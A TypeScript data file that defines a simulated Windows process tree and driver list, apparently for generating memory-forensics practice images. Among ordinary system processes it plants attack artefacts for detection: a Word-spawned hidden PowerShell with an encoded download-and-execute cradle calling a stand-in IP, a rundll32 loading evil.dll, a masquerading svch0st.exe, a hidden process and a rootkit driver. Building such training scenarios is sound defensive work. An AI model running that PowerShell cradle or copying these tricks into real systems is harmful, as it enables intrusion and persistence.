// The scenario every generated machine plays: which processes (tree, command lines, sessions, the
// suspicious ones) and which drivers (one rootkit outside System32) exist. Pure data; system.ts lays it
// out in memory with the build's structure layouts.
import type { BuildInfo } from './builds';

export interface ProcSpec {
  name: string;
  /** DOS path of the image (null: kernel-made process without an image file in PEB) */
  path: string | null;
  cmd: string | null;
  parent: string | null;
  session: number | null;
  wow64?: boolean;
  hidden?: boolean;
  exited?: boolean;
  noPeb?: boolean;
  threads: number;
  dlls: string[];
  flags?: string[];
}

export const SYS32 = 'C:\\Windows\\System32\\';
const BASE_DLLS = ['ntdll.dll', 'kernel32.dll', 'KERNELBASE.dll'];

export function scenario(b: BuildInfo): ProcSpec[] {
  const svc = [...BASE_DLLS, 'msvcrt.dll', 'sechost.dll', 'rpcrt4.dll', 'combase.dll'];
  const list: ProcSpec[] = [
    { name: 'System', path: null, cmd: null, parent: null, session: null, noPeb: true, threads: 4, dlls: [] },
  ];
  if (b.hasRegistryProcess) list.push({ name: 'Registry', path: null, cmd: null, parent: 'System', session: null, noPeb: true, threads: 2, dlls: [] });
  list.push(
    { name: 'smss.exe', path: SYS32 + 'smss.exe', cmd: '\\SystemRoot\\System32\\smss.exe', parent: 'System', session: null, threads: 2, dlls: ['ntdll.dll'] },
    { name: 'csrss.exe', path: SYS32 + 'csrss.exe', cmd: '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16', parent: '-smss', session: 0, threads: 3, dlls: ['ntdll.dll', 'CSRSRV.dll', 'basesrv.DLL'] },
    { name: 'wininit.exe', path: SYS32 + 'wininit.exe', cmd: 'wininit.exe', parent: '-smss', session: 0, threads: 2, dlls: [...BASE_DLLS] },
    { name: 'csrss.exe', path: SYS32 + 'csrss.exe', cmd: '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16', parent: '-smss', session: 1, threads: 3, dlls: ['ntdll.dll', 'CSRSRV.dll', 'basesrv.DLL'] },
    { name: 'winlogon.exe', path: SYS32 + 'winlogon.exe', cmd: 'winlogon.exe', parent: '-smss', session: 1, threads: 2, dlls: [...BASE_DLLS, 'USER32.dll'] },
    { name: 'services.exe', path: SYS32 + 'services.exe', cmd: 'C:\\Windows\\system32\\services.exe', parent: 'wininit.exe', session: 0, threads: 3, dlls: [...BASE_DLLS, 'msvcrt.dll'] },
    { name: 'lsass.exe', path: SYS32 + 'lsass.exe', cmd: 'C:\\Windows\\system32\\lsass.exe', parent: 'wininit.exe', session: 0, threads: 4, dlls: [...BASE_DLLS, 'lsasrv.dll', 'SspiCli.dll'] },
    { name: 'svchost.exe', path: SYS32 + 'svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', parent: 'services.exe', session: 0, threads: 3, dlls: svc },
    { name: 'svchost.exe', path: SYS32 + 'svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k RPCSS -p', parent: 'services.exe', session: 0, threads: 3, dlls: svc },
    { name: 'svchost.exe', path: SYS32 + 'svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p', parent: 'services.exe', session: 0, threads: 4, dlls: svc },
    { name: 'explorer.exe', path: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\Explorer.EXE', parent: '-userinit', session: 1, threads: 4, dlls: [...BASE_DLLS, 'USER32.dll', 'SHELL32.dll', 'SHLWAPI.dll'], flags: ['injected-rwx-pe'] },
    { name: 'notepad.exe', path: SYS32 + 'notepad.exe', cmd: '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\alice\\Desktop\\notes.txt', parent: 'explorer.exe', session: 1, threads: 1, dlls: [...BASE_DLLS, 'USER32.dll', 'COMDLG32.dll'] },
    { name: 'WINWORD.EXE', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice_2291.docm"', parent: 'explorer.exe', session: 1, threads: 3, dlls: [...BASE_DLLS, 'USER32.dll', 'ole32.dll'] },
    { name: 'powershell.exe', path: SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -nop -w hidden -enc ' + Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50:8080/a')", 'utf16le').toString('base64'), parent: 'WINWORD.EXE', session: 1, threads: 3, dlls: [...BASE_DLLS, 'USER32.dll', 'clr.dll'], flags: ['suspicious-parent', 'encoded-powershell'] },
    { name: 'rundll32.exe', path: SYS32 + 'rundll32.exe', cmd: 'rundll32.exe C:\\Users\\Public\\evil.dll,DllRegisterServer', parent: 'powershell.exe', session: 1, threads: 1, dlls: [...BASE_DLLS, 'evil.dll@C:\\Users\\Public\\evil.dll'], flags: ['suspicious-parent'] },
    { name: 'svch0st.exe', path: 'C:\\Users\\alice\\AppData\\Local\\Temp\\svch0st.exe', cmd: '"C:\\Users\\alice\\AppData\\Local\\Temp\\svch0st.exe" -connect', parent: 'explorer.exe', session: 1, threads: 2, dlls: [...BASE_DLLS, 'WS2_32.dll'], flags: ['image-outside-system32', 'hidden-dll'] },
    { name: 'cmd.exe', path: SYS32 + 'cmd.exe', cmd: 'C:\\Windows\\system32\\cmd.exe /c whoami /all', parent: 'explorer.exe', session: 1, threads: 0, exited: true, dlls: [...BASE_DLLS], flags: ['exited'] },
    { name: 'notepad++.exe', path: 'C:\\Program Files (x86)\\Notepad++\\notepad++.exe', cmd: '"C:\\Program Files (x86)\\Notepad++\\notepad++.exe"', parent: 'explorer.exe', session: 1, threads: 2, wow64: true, dlls: ['ntdll.dll', 'wow64.dll', 'wow64win.dll', 'wow64cpu.dll'], flags: ['wow64'] },
    { name: 'winupd.exe', path: 'C:\\ProgramData\\winupd.exe', cmd: 'C:\\ProgramData\\winupd.exe /svc', parent: 'services.exe', session: 0, threads: 2, hidden: true, dlls: [...BASE_DLLS, 'WS2_32.dll'], flags: ['hidden-process', 'image-outside-system32'] },
  );
  return list;
}

export const DRIVERS: [string, string][] = [
  ['hal.dll', '\\SystemRoot\\system32\\hal.dll'],
  ['kd.dll', '\\SystemRoot\\system32\\kd.dll'],
  ['CI.dll', '\\SystemRoot\\system32\\CI.dll'],
  ['msrpc.sys', '\\SystemRoot\\system32\\drivers\\msrpc.sys'],
  ['FLTMGR.SYS', '\\SystemRoot\\System32\\drivers\\FLTMGR.SYS'],
  ['ksecdd.sys', '\\SystemRoot\\System32\\Drivers\\ksecdd.sys'],
  ['ACPI.sys', '\\SystemRoot\\System32\\drivers\\ACPI.sys'],
  ['disk.sys', '\\SystemRoot\\System32\\drivers\\disk.sys'],
  ['Ntfs.sys', '\\SystemRoot\\System32\\Drivers\\Ntfs.sys'],
  ['NETIO.SYS', '\\SystemRoot\\system32\\drivers\\NETIO.SYS'],
  ['tcpip.sys', '\\SystemRoot\\System32\\drivers\\tcpip.sys'],
  ['afd.sys', '\\SystemRoot\\system32\\drivers\\afd.sys'],
  ['win32k.sys', '\\SystemRoot\\System32\\win32k.sys'],
  ['ndis.sys', '\\SystemRoot\\system32\\drivers\\ndis.sys'],
];
export const ROOTKIT: [string, string] = ['mssecflt2.sys', '\\??\\C:\\Windows\\Temp\\mssecflt2.sys'];

